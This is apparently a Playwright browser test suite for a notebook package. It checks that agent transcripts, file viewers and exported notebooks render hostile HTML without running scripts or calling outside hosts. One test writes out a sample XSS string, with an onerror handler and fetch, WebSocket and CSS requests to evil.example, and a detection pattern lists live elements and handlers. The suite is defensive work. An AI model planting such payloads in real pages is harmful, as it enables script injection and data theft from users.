"""All payloads through all that shows them: no script runs, and nothing asks beyond this machine.

What a script would do is counted, what a page asks for is seen on its way, and what is on the page
is looked through for what would run or ask later, as a link that is none of the web's.
"""

from __future__ import annotations

import re
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from urllib.parse import urlparse

import nbformat
import pytest
from nbconvert import HTMLExporter
from playwright.sync_api import Browser, BrowserContext, Error, Locator, Page, expect

from sagents_nb.export import html_of, markdown_of, notebook_of
from tests.browser.attacked import (
    ALL,
    ENDED,
    NUMBER_OF_ANSWERS,
    NUMBER_OF_WAITING,
    SPOKEN,
    batches,
    said,
    session_of,
)
from tests.browser.lab import LabWindow, NotebookPage
from tests.browser.marimo import Marimo
from tests.export.payloads import ASKING, SCRIPTS, document_with
from tests.talking import PATIENCE

pytestmark = pytest.mark.browser

ROOT = Path(__file__).parents[2]
OUTPUTS = 48  # of a cell
RAN = "a script ran"
FIRST = f"window.alert = () => console.error({RAN!r})"
SETUP = f"""
import sys
sys.path.insert(0, {str(ROOT)!r})
from tests.browser import attacked
import sagents_nb as sa
"""


class Watch:
    """What the pages of a window have done that they must not."""

    def __init__(self, context: BrowserContext) -> None:
        self.seen: list[str] = []
        self.context = context
        context.on("request", lambda request: self._asked(request.url))
        context.on("page", lambda page: page.on("websocket", lambda one: self._asked(one.url)))
        context.on("console", lambda message: self._said(message.text))
        context.on("dialog", lambda dialog: (self._said(RAN), dialog.dismiss()))
        # Nothing is answered that was asked of others: what then is done would be slow to fail.
        context.route(lambda url: not is_here(url), lambda route: route.abort())

    def _asked(self, url: str) -> None:
        if not is_here(url):
            self.seen.append(url)

    def _said(self, text: str) -> None:
        if RAN in text:
            self.seen.append(text)


def is_here(url: str) -> bool:
    """Whether it is of this machine, or in the page itself."""
    parts = urlparse(url)
    return parts.scheme in ("data", "blob", "file", "about") or parts.hostname == "127.0.0.1"


LIVE = r"""
(roots) => {
  const found = [];
  const elements = new RegExp("^(script|i?frame|frameset|object|embed|applet|portal|link|base" +
    "|meta|animate|set|feimage|foreignobject|use|video|audio|source|track|area|maction)$", "i");
  const attributes = new RegExp("^(on.*|ping|srcset|srcdoc|action|formaction|background|poster" +
    "|manifest|xlink:href|data-commandlinker.*)$", "i");
  const images = /^(img|input|image)$/i;
  const data = /^data:image\/((png|jpe?g|gif|webp);|svg\+xml,)/i;  // diagrams are SVG
  const leads = (address) => {
    if (/^(https?:\/\/|mailto:)/i.test(address)) return false;
    const url = new URL(address, location.href);
    return url.origin !== location.origin || !/^(https?|file):$/.test(url.protocol);
  };
  const isLive = (element, name, value) =>
    attributes.test(name) ||
    (name === "style" && /url\(|image-set/i.test(value)) ||
    (name === "src" && images.test(element.localName) && !data.test(value)) ||
    (name === "href" && leads(value));
  const walk = (root) => {
    for (const element of root.querySelectorAll("*")) {
      const { localName, attributes, shadowRoot } = element;
      if (elements.test(localName)) found.push(element.outerHTML.slice(0, 300));
      if (localName === "style" && /evil|alert/.test(element.textContent)) found.push("a style");
      for (const { name, value } of attributes)
        if (isLive(element, name, value)) found.push(`${localName} ${name}=${value}`.slice(0, 300));
      if (shadowRoot) walk(shadowRoot);
    }
  };
  roots.forEach(walk);
  return found;
}
"""


@contextmanager
def watched(context: BrowserContext) -> Iterator[Watch]:
    """Watch what the pages do meanwhile; at the end they must have done nothing."""
    watch = Watch(context)
    yield watch
    for page in context.pages:
        settle(page)
        assert page.opener() is None, "nobody has opened a page"
    assert watch.seen == []


def settle(page: Page) -> None:
    """Have the page do what it has put off."""
    page.evaluate("new Promise((done) => requestIdleCallback(() => setTimeout(done)))")


def live(shown: Locator) -> list[str]:
    """What in these elements would run, ask or lead astray."""
    assert shown.count() > 0
    found: list[str] = shown.evaluate_all(LIVE)
    return found


def links(shown: Locator) -> int:
    """How many links there are to click on."""
    return shown.locator("a[href^='http']").count()


NO_FRAME = "The page draws no frame."
UNFOLD = f"""
async (panel, patience) => {{
  const frame = () => new Promise((done, fail) => {{
    let seconds = 0;
    const still = () => ++seconds > patience && fail("{NO_FRAME}");
    const timer = setInterval(still, 1000);
    requestAnimationFrame(() => (clearInterval(timer), done()));
  }});
  const painted = async () => (await frame(), await frame());
  for (const fold of panel.querySelectorAll("details")) fold.open = true;
  await painted();
  for (const more of panel.querySelectorAll(".sagents-link")) more.click();
  const pane = panel.querySelector(".sagents-transcript, .sagents-viewer-body") ?? panel;
  for (let top = 0; top < pane.scrollHeight; top += pane.clientHeight || 300) {{
    pane.scrollTop = top;
    await painted();
  }}
}}
"""


def unfold(panel: Locator) -> None:
    """Open all that is folded in a panel, and scroll it through."""
    try:
        panel.evaluate(UNFOLD, PATIENCE)
    except Error as error:
        if NO_FRAME not in error.message:
            raise
        # Of hundreds of open cards, Chromium 156 without a GPU sometimes waits for tiles that
        # nobody paints any more, while the page answers (its trace says "pending tree not ready";
        # https://crrev.com/c/7041938 mended one such case). It lets go when the tiles are lost.
        browser = panel.page.context.browser
        assert browser
        browser.new_browser_cdp_session().send("Browser.crashGpuProcess")
        panel.evaluate(UNFOLD, PATIENCE)


def panels_of(notebook: NotebookPage) -> Locator:
    return notebook.page.get_by_test_id("sagents-panel")


def show(notebook: NotebookPage, i: int) -> Locator:
    """Run a cell that shows a panel, and wait for it."""
    notebook.run_cell(i)
    notebook.wait_for_cell(i)
    panel = notebook.cell(i).get_by_test_id("sagents-panel")
    panel.scroll_into_view_if_needed()
    return panel


def window(lab: LabWindow | Marimo) -> BrowserContext:
    lab.run_first(FIRST)
    return lab.context


def test_there_are_enough_payloads() -> None:
    assert len(set(SCRIPTS)) >= 300
    assert len(set(ASKING)) >= 100


def test_what_runs_or_asks_is_noticed(lab_window: LabWindow) -> None:
    watch = Watch(window(lab_window))
    evil = (
        "<img src=x onerror=alert(1)><img src=https://evil.example/x><a href='//x/y'>z</a>"
        "<style>@font-face{font-family:x;src:url(https://evil.example/font)}</style>"
        "<p style='font-family:x;background:url(https://evil.example/style)'>x</p>"
        "<script>fetch('https://evil.example/fetch').catch(() => {});"
        "new WebSocket('wss://evil.example/socket')</script>"
    )
    notebook = lab_window.open([f"from IPython.display import HTML; HTML({evil!r})"])
    with lab_window.context.expect_console_message(lambda message: RAN in message.text):
        notebook.run_cell(0)
    settle(notebook.page)
    asked = {f"https://evil.example/{name}" for name in ("x", "font", "style", "fetch")}
    assert set(watch.seen) == {RAN, *asked, "wss://evil.example/socket"}
    found = live(notebook.cell_output(0))
    assert {"img onerror=alert(1)", "img src=https://evil.example/x", "a href=//x/y"} <= set(found)


def kernel_of(lab: LabWindow, *cells: str) -> NotebookPage:
    """A notebook that has run the first of these cells, behind what makes sessions."""
    first, *more = cells
    notebook = lab.open([f"%load_ext sagents_nb\n{SETUP}{first}", *more])
    notebook.run_cell(0)
    notebook.wait_for_cell(0)
    return notebook


def test_some_of_them_in_the_panel_and_in_its_place(lab_window: LabWindow) -> None:
    with watched(window(lab_window)):
        last = in_one_cell("attacked.frozen(evil)", len(ALL) - OUTPUTS)
        notebook = kernel_of(lab_window, "s = attacked.answers()", "s[0]", last)
        panel = show(notebook, 1)
        expect(panel).to_contain_text(ENDED)
        unfold(panel)
        assert live(panel) == []
        notebook.run_cell(2)
        frozen = notebook.cell(2).locator(".jp-RenderedMarkdown")
        expect(frozen).to_have_count(OUTPUTS)
        expect(frozen.last).to_contain_text(ENDED)
        assert live(frozen) == []


@pytest.mark.soak
def test_conversations_in_the_panel(lab_window: LabWindow) -> None:
    with watched(window(lab_window)):
        shown = range(1, 1 + NUMBER_OF_ANSWERS)
        notebook = kernel_of(lab_window, "s = attacked.answers()", *(f"s[{n - 1}]" for n in shown))
        for n in shown:
            panel = show(notebook, n)
            expect(panel).to_contain_text(ENDED)
            spoken = list(batches(ALL, SPOKEN))[n - 1]
            expect(panel.get_by_test_id("entry")).to_have_count(2 * len(spoken) + 1)
            unfold(panel)
            assert live(panel) == []
        assert links(panels_of(notebook)) > 0
        notebook.screenshot("sinks-panel")


@pytest.mark.soak
def test_calls_results_errors_and_todos_in_the_panel(lab_window: LabWindow) -> None:
    with watched(window(lab_window)):
        cells = ["s = attacked.calls()", "s[0]", "s[1]", "s[2]", "attacked.planned()"]
        notebook = kernel_of(lab_window, *cells)
        for n in (1, 2, 3):
            panel = show(notebook, n)
            expect(panel).to_contain_text(ENDED)
            unfold(panel)
            expect(panel.locator(".sagents-tool-body").nth(200)).to_be_attached()
            assert live(panel) == []
        todos = show(notebook, 4)
        expect(todos.locator("li").nth(len(ALL) - 1)).to_be_attached()
        assert live(todos) == []
        notebook.screenshot("sinks-calls")


@pytest.mark.soak
def test_names_and_contents_of_files_in_their_viewers(lab_window: LabWindow) -> None:
    with watched(window(lab_window)):
        notebook = kernel_of(lab_window, "s = attacked.filed()", "sa.FilesView(s)")
        panel = show(notebook, 1)
        directories = panel.get_by_test_id("directory")
        directories.filter(has_text="seen").click()
        files = panel.get_by_test_id("file")
        expect(files.first).to_be_attached()
        for n in range(files.count()):
            files.nth(n).click()
            expect(panel.locator(".sagents-viewer-body > *").first).to_be_attached()
            expect(panel.get_by_text("Reading…")).to_have_count(0)
            unfold(panel)
            assert live(panel) == []
            if n == 1:
                notebook.screenshot("sinks-viewer")
            panel.get_by_test_id("file-back").click()
        # Names, in the tree.
        directories.filter(has_text="names").click()
        panel.get_by_role("treeitem", name="deep").focus()
        for _ in range(200):  # each that is opened, and the next
            notebook.page.keyboard.press("ArrowRight")
        expect(files.nth(len(ALL) - 1)).to_be_attached()
        assert live(panel) == []


@pytest.mark.soak
def test_what_waits_for_approval(lab_window: LabWindow) -> None:
    with watched(window(lab_window)):
        shown = range(1, 1 + NUMBER_OF_WAITING)
        notebook = kernel_of(lab_window, "s = attacked.waiting()", *(f"s[{n - 1}]" for n in shown))
        for n in shown:
            panel = show(notebook, n)
            expect(panel.get_by_role("group").first).to_be_attached()
            unfold(panel)
            assert live(panel) == []
        notebook.screenshot("sinks-approvals")


def in_one_cell(expression: str, start: int) -> str:
    """A cell with one output for each of some payloads; Lab shows 50 at once."""
    return f"""
from IPython.display import display
for evil in attacked.ALL[{start}:{start + OUTPUTS}]:
    display({expression}, raw=True)
"""


@contextmanager
def without_windows(lab: LabWindow) -> Iterator[None]:
    """Have Lab keep on the page what is far from what is seen, which is one of its settings."""
    path = lab.server.root.parent / "settings/@jupyterlab/notebook-extension"
    path.mkdir(parents=True, exist_ok=True)
    file = path / "tracker.jupyterlab-settings"
    file.write_text('{"windowingMode": "none"}')
    try:
        yield
    finally:
        file.unlink()


def read_through(notebook: NotebookPage, number: int) -> None:
    """Look through all of a notebook, once Lab has rendered so many texts."""
    shown = notebook.page.locator(".jp-RenderedMarkdown, .jp-RenderedHTML")
    expect(shown.nth(number - 1)).not_to_be_empty()
    settle(notebook.page)
    assert live(shown) == []
    assert links(shown) > 0


@pytest.mark.soak
def test_static_text_below_cells_and_the_page_that_nbconvert_makes_of_it(
    lab_window: LabWindow, browser: Browser, tmp_path: Path
) -> None:
    starts = range(0, len(ALL), OUTPUTS)
    with watched(window(lab_window)) as watch, without_windows(lab_window):
        frozen = [in_one_cell("attacked.frozen(evil)", start) for start in starts]
        run = ["%%agent --plain\nhello", "%%agent\nhello", "%agent freeze"]
        notebook = kernel_of(lab_window, "attacked.use(get_ipython())", *run, *frozen)
        for i in range(1, 1 + len(run) + len(frozen)):
            notebook.run_cell(i)
            notebook.wait_for_cell(i, 60)
        for i in (1, 2):
            expect(notebook.cell_output(i)).to_contain_text(ENDED)
        read_through(notebook, len(ALL))
        notebook.screenshot("sinks-static")
        assert watch.seen == []
        saved = notebook.save()
    assert len([o for cell in saved.cells for o in cell.get("outputs", ())]) >= len(ALL)
    look_at(page_of(saved), browser, tmp_path)


@pytest.mark.soak
def test_an_exported_notebook_and_markdown_in_jupyterlab(lab_window: LabWindow) -> None:
    with watched(window(lab_window)), without_windows(lab_window):
        for number, some in enumerate(batches(ALL, 160)):
            path = lab_window.server.root / f"exported{number}.ipynb"
            messages = [message for evil in some for message in said(evil)]
            path.write_text(session_of(messages).to_notebook(), encoding="utf-8")
            cells = nbformat.read(path, as_version=4).cells
            assert len(cells) > len(some)
            read_through(lab_window.open_file(path), len(cells))
            # A cell for each, else what one opens would hold the others.
            texts = [markdown_of(document_with([evil])) for evil in some]
            read_through(
                lab_window.open([nbformat.v4.new_markdown_cell(t) for t in texts]), len(texts)
            )
            for page in lab_window.context.pages:
                settle(page)
                page.close()


def page_of(notebook: nbformat.NotebookNode) -> str:
    """The page that nbconvert makes, without what its own template asks of a CDN."""
    page = HTMLExporter(template_name="lab").from_notebook_node(notebook)[0]
    for foreign in re.findall(
        r"https://cdnjs\.cloudflare\.com[^\s\"']*",
        HTMLExporter().from_notebook_node(nbformat.v4.new_notebook())[0],
    ):
        page = page.replace(foreign, "data:text/javascript,")
    return page


def look_at(html: str, browser: Browser, tmp_path: Path) -> None:
    """Open a page, and read it."""
    path = tmp_path / "page.html"
    path.write_text(html, encoding="utf-8")
    context = browser.new_context()
    context.add_init_script(FIRST)
    with watched(context):
        page = context.new_page()
        page.goto(path.as_uri())
        page.evaluate("document.querySelectorAll('details').forEach((one) => { one.open = true })")
        page.mouse.wheel(0, 4000)
        assert [f for f in live(page.locator("main, .panel")) if "jp-" not in f] == []
        assert links(page.locator("body")) > 0
    context.close()


@pytest.mark.soak
def test_exported_pages(browser: Browser, tmp_path: Path) -> None:
    for some in batches(ALL, 150):
        look_at(html_of(document_with(some)), browser, tmp_path)
        look_at(
            page_of(nbformat.reads(notebook_of(document_with(some)), as_version=4)),
            browser,
            tmp_path,
        )


@pytest.mark.soak
def test_the_panel_and_the_transcript_in_marimo(marimo: Marimo) -> None:
    with watched(window(marimo)):
        panels = [f"s[{n}]" for n in range(NUMBER_OF_ANSWERS)]
        panels += ["p", "c[0]", "c[1]", "c[2]", "w[0]", "sa.FilesView(f)"]
        static = ["attacked.results()[0]", "mo.vstack(attacked.results())", "mo.md(x)"]
        first = f"""{SETUP}
import marimo as mo
s, c, w = attacked.answers(), attacked.calls(), attacked.waiting()
p, f = attacked.planned(), attacked.filed()
x = s[0].to_markdown()
"""
        notebook = marimo.open([first, *panels, *static])
        notebook.run_all()
        for n in range(1, 1 + len(panels)):
            panel = notebook.cell(n).get_by_test_id("sagents-panel")
            panel.scroll_into_view_if_needed()
            if n <= NUMBER_OF_ANSWERS:
                expect(panel).to_contain_text(ENDED)
            unfold(panel)
            assert live(panel) == []
        notebook.screenshot("sinks-marimo")
        for n in range(1 + len(panels), 1 + len(panels) + len(static)):
            shown = notebook.cell(n).locator(".output-area")
            shown.scroll_into_view_if_needed()
            expect(shown).to_contain_text("evil.example")
            assert live(shown) == []
        assert links(notebook.page.get_by_test_id("sagents-panel")) > 0
        notebook.screenshot("sinks-marimo-static")
